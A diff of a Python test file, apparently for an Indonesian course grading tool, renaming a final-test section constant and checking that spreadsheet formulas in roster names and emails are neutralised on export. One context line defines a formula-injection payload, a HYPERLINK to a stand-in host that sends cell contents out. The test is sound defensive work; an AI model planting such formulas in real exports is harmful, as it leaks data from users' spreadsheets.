@@ -30,7 +30,7 @@ from . import synthetic
 from .conftest import ROOT
 from .grading_support import bimtek, nbgrader_env, run_nbgrader
 
-S00, S07 = "00-pengantar", "07-proyek-akhir"
+S00, S08 = "00-pengantar", "08-tes-akhir"
 N = synthetic.N_ITEMS
 
 EQ = '=HYPERLINK("http://jahat.example/?d="&A1,"Klik")'
@@ -70,7 +70,7 @@ def cohort_scores() -> dict:
     for pid in [*ROSTER, PATH_ID]:
         scores[(pid, S00)] = {f"tes_awal_{n:02d}": 1.0 for n in range(1, 10)}
         post = range(1, 4) if pid == "p_minus" else range(1, N + 1)
-        scores[(pid, S07)] = {f"tes_akhir_{n:02d}": 1.0 for n in post}
+        scores[(pid, S08)] = {f"tes_akhir_{n:02d}": 1.0 for n in post}
     return scores
 
 
@@ -82,7 +82,7 @@ def course(tmp_path_factory) -> Path:
         {"id": pid, "first_name": "Nama", "last_name": None, "email": f"x{i}@contoh.go.id", "kabupaten": "Kab. X"}
         for i, pid in enumerate([*ROSTER, PATH_ID])
     ]
-    synthetic.fill(root, [S00, S07], plain, cohort_scores())
+    synthetic.fill(root, [S00, S08], plain, cohort_scores())
     (root / "peserta.csv").write_text(roster_text(ROSTER), encoding="utf-8")
     proc = bimtek(["roster", "import", "peserta.csv"], root)
     assert proc.returncode == 0, proc.stderr
@@ -188,7 +188,7 @@ def test_formula_in_names_and_email_is_neutralised_in_the_nbgrader_export(course
     rows = {(r["student_id"], r["assignment"]): r for r in read_csv(course / "nilai.csv")}
     assert rows[("p_eq", S00)]["first_name"] == "'" + EQ
     assert rows[("p_plus", S00)]["last_name"] == "'" + PLUS
-    assert rows[("p_at", S07)]["email"] == "'" + EMAIL_PLUS
+    assert rows[("p_at", S08)]["email"] == "'" + EMAIL_PLUS
     assert rows[("p_eq", S00)]["score"] == "9.0" and rows[("p_eq", S00)]["status"] == "dinilai"
     assert formula_cells(course / "nilai.csv") == []
 
